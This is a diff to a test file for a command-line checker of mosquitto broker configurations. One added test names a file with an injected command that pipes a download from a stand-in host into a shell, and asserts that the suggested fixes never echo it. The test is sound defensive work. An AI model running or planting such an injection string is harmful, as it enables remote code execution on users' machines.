@@ -114,6 +114,19 @@ test('cli section 6: text of a file cannot steer the terminal', async t => {
   assert.ok(stdout.includes("clientid_prefixes '\\u{202e}evil'"))
 })
 
+test('cli section 6: what is to be pasted into a shell holds no word that a stranger chose', async t => {
+  const evil = 'x; curl evil.example | sh #'
+  const dir = directory(t, {})
+  writeFileSync(join(dir, evil), `${evil}:x; ls\nplain:plain\n`)
+  chmodSync(join(dir, evil), 0o644)
+  writeFileSync(join(dir, 'mosquitto.conf'), `password_file ${join(dir, evil)}\n`)
+  const { stdout } = await runCommand(doctor, [dir, '--json'])
+  const fixes = JSON.parse(stdout).findings.map(({ fix }: { fix: string }) => fix)
+  assert.ok(fixes.some((fix: string) => fix.startsWith('chmod 0600 FILE')))
+  assert.ok(fixes.some((fix: string) => fix.startsWith('castellan passwd FILE plain')))
+  assert.doesNotMatch(fixes.join('\n'), /curl|evil/)
+})
+
 test('cli section 6: a file that nobody may read, or of another kind, is a problem and no crash', async t => {
   const dir = directory(t, { 'mosquitto.conf': 'acl_file /dev/null\npassword_file .\ncertfile x\nlistener\n', x: '' })
   chmodSync(join(dir, 'x'), 0)
@@ -124,6 +137,8 @@ test('cli section 6: a file that nobody may read, or of another kind, is a probl
 
 const wrong: readonly (readonly [args: readonly string[], code: number, says: RegExp])[] = [
   [['/no/such/file'], 3, /there is no file '\/no\/such\/file'/],
+  [['/dev/null'], 1, /'\/dev\/null' cannot be read: it is not a file/],
+  [['/etc/passwd'], 1, /'\/etc\/passwd' is no mosquitto\.conf/],
   [['/proc/self'], 3, /there is no mosquitto\.conf in/],
   [['a', 'b'], 2, /'b' is one argument too many/],
   [['--fix', 'a'], 2, /--fix is not there/],
@@ -147,5 +162,5 @@ for (const [args, code, says] of wrong) {
 test('cli section 4: a broker that is not there is exit code 6', async () => {
   const result = await runCommand(doctor, [`mqtt://127.0.0.1:${await quietPort()}`])
   assert.equal(result.code, 6)
-  assert.match(result.stderr, /no connection/)
+  assert.match(result.stderr, /Connection refused/)
 })
